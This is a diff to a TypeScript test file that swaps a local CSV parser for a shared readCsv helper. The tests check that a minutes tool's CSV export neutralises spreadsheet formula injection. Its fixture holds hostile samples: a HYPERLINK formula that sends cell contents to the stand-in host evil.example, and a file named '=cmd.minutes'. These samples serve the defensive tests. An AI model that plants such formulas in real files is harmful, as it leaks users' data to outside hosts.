@@ -7,6 +7,7 @@ import * as assert from 'assert';
 import { createMinutesService, parseUnitsRegistry } from '../../server/src/core';
 import { csvField, formatActionsCsv, formatActionsMarkdown } from '../../server/src/core/export';
 import { runCli, useTempDirs } from '../cli/helpers';
+import { readCsv } from '../util/csv';
 
 const HOSTILE = [
   '# =HYPERLINK("http://evil.example/?"&A1,"Click me")',
@@ -17,34 +18,6 @@ const HOSTILE = [
   '- [ ] -2+3 by Friday. Owner: IT',
   '',
 ].join('\n');
-
-/** The cells of a CSV text (RFC 4180, as a spreadsheet reads it). */
-function csvCells(csv: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  const text = csv.replace(/^\ufeff/, '');
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') cell += text[i++];
-      else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      row.push(cell);
-      cell = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(cell);
-      rows.push(row);
-      row = [];
-      cell = '';
-      i++;
-    } else cell += c;
-  }
-  return rows;
-}
 
 /** True when a spreadsheet would read the cell as a formula. */
 const formulaLike = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);
@@ -67,7 +40,7 @@ describe('robustness: exports and Markdown from hostile text', function () {
   });
 
   it('the CSV export has no cell a spreadsheet would run: titles, sections, owners, item text', function () {
-    const rows = csvCells(formatActionsCsv(records(HOSTILE), '2024-01-01'));
+    const rows = readCsv(formatActionsCsv(records(HOSTILE), '2024-01-01'));
     const cells = rows.slice(1).flat();
     assert.ok(rows.length === 3, `two items expected, got ${rows.length - 1}`);
     assert.deepStrictEqual(cells.filter(formulaLike), []);
@@ -79,7 +52,7 @@ describe('robustness: exports and Markdown from hostile text', function () {
     const dir = temp.make({ 'hostile.minutes': HOSTILE, '=cmd.minutes': HOSTILE });
     const result = runCli(['actions', '--format', 'csv', '.'], dir);
     assert.strictEqual(result.status, 0, result.stderr);
-    const cells = csvCells(result.stdout).slice(1).flat();
+    const cells = readCsv(result.stdout).slice(1).flat();
     assert.ok(cells.length > 0);
     assert.deepStrictEqual(cells.filter(formulaLike), []);
     assert.ok(cells.includes("'=cmd.minutes"), 'a file name starting with = is written as text');
